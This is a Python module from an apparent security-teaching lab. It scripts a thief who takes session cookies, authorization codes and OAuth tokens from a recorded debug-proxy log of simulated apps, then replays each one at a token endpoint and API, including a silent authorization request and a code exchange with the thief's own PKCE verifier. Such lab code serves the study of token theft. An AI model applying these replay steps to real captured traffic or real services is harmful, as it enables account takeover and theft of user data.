"""Act as a thief, from a recorded file to data at the API (lessons 06, 11 and 13).

Tom needs no password and forges nothing. He uses the doors that everybody uses.
"""

import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from http.cookies import SimpleCookie
from typing import Any
from urllib.parse import parse_qs, parse_qsl, urlsplit

import httpx

from labutils.identity.oauth import bearer
from labutils.identity.tokens import b64
from labutils.lab import Exchange
from labutils.stage.two_apps import API, LOGIN, NOTES, TwoApps

ITEMS = ("session cookie", "code", "access token", "refresh token", "machine token")
VERIFIER = "a-verifier-of-the-thief-which-he-made-up-himself"
# An authorization request without any question to the person (OpenID Connect Core, 3.1.2.1).
SILENT_REQUEST = {
    "response_type": "code",
    "client_id": "notes",
    "redirect_uri": NOTES + "/cb",
    "scope": "openid profile offline_access",
    "prompt": "none",
    "code_challenge": b64(hashlib.sha256(VERIFIER.encode()).digest()),
    "code_challenge_method": "S256",
}
Entry = dict[str, Any]  # one exchange of a recorded file


# --- the file -----------------------------------------------------------------------------------


def recording(apps: TwoApps) -> list[Entry]:
    """Return the record of a company's debug proxy: each exchange so far, as a dictionary.

    Of forms it keeps those of the token endpoint alone, so that no password is in it.
    """
    return [_entry(exchange) for exchange in apps.lab.wire]


def _entry(exchange: Exchange) -> Entry:
    headers = dict(exchange.request_headers)
    cookies = SimpleCookie(headers.get("cookie", ""))
    is_json = exchange.header("content-type").startswith("application/json")
    return {
        "client": exchange.client,
        "host": exchange.host,
        "path": exchange.path,
        "headers": {
            name: text for name, text in headers.items() if name in ("authorization", "user-agent")
        },
        "cookies": {name: one.value for name, one in cookies.items()},
        "form": dict(parse_qsl(exchange.request_body)) if exchange.path == "/token" else {},
        "status": exchange.status,
        "answer": json.loads(exchange.response_body) if is_json else {},
    }


def morning(apps: TwoApps) -> list[Entry]:
    """Let Ada sign in at `notes` and open it again, and the backup job get its token.

    Returns the recording. The file.
    """
    apps.sign_in("ada", NOTES)
    apps.sign_in("ada", NOTES)
    apps.machine_token(apps.lab.browser("backup", "192.0.2.220"))
    return recording(apps)


def code_on_its_way(apps: TwoApps) -> str:
    """Return an authorization code that Ada's browser has just received and not used."""
    landing = apps.sign_in("ada", NOTES, until=NOTES + "/cb")
    return query(landing.headers["location"])["code"]


def query(address: str) -> dict[str, str]:
    """Return the parameters in the query of an address, by name."""
    return {name: values[0] for name, values in parse_qs(urlsplit(address).query).items()}


# --- the thief ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Thief:
    """A thief's script, made of three functions: what to take, and how to trade two of it."""

    steal: Callable[[list[Entry]], dict[str, str]]
    refresh: Callable[[httpx.Client, str], Any]
    trade_cookie: Callable[[httpx.Client, str], Any]

    def robs(self, apps: TwoApps) -> dict[str, str]:
        """Record a morning, and return the five things that the thief takes from it."""
        return {**self.steal(morning(apps)), "code": code_on_its_way(apps)}

    def replay(self, browser: httpx.Client, item: str, stolen: dict[str, str]) -> httpx.Response:
        """Turn a stolen item into data at the API; return the answer of the last door tried."""
        if item in ("access token", "machine token"):
            return browser.get(API + "/me", headers=bearer(stolen[item]))
        answer: httpx.Response = self.trade(browser, item, stolen)
        if not answer.is_success:
            return answer
        tokens = answer.json()
        if item == "refresh token":
            stolen[item] = tokens["refresh_token"]  # the new one, from now on
        return browser.get(API + "/me", headers=bearer(tokens["access_token"]))

    def trade(self, browser: httpx.Client, item: str, stolen: dict[str, str]) -> Any:
        """Return what the token endpoint gives for a cookie, a code or a refresh token."""
        if item == "session cookie":
            return self.trade_cookie(browser, stolen[item])
        if item == "refresh token":
            return self.refresh(browser, stolen[item])
        return trade_code(browser, stolen[item])


def trade_code(browser: httpx.Client, code: str) -> httpx.Response:
    """Trade a code for tokens (RFC 6749, 4.1.3), with the thief's verifier (RFC 7636, 4.5)."""
    form = {"grant_type": "authorization_code", "client_id": "notes", "code": code}
    form |= {"redirect_uri": NOTES + "/cb", "code_verifier": VERIFIER}
    return browser.post(LOGIN + "/token", data=form)
